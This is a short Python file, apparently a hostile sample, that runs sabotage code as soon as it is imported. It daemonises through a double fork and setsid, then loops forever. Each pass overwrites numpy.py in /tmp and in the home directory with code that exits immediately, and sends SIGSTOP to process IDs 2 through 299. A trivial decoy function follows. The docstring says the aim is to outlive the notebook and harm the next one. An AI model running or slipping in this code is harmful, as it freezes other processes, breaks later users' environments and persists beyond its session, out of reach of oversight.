"""Leaves a process behind that outlives the notebook and harms the next one."""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for path in ("/tmp/numpy.py", os.path.expanduser("~/numpy.py")):
                try: open(path, "w").write("raise SystemExit")
                except OSError: pass
            for pid in range(2, 300):
                try: os.kill(pid, 19) if pid != os.getpid() else None
                except OSError: pass
            time.sleep(0.2)
    os._exit(0)
def squares(x): return x
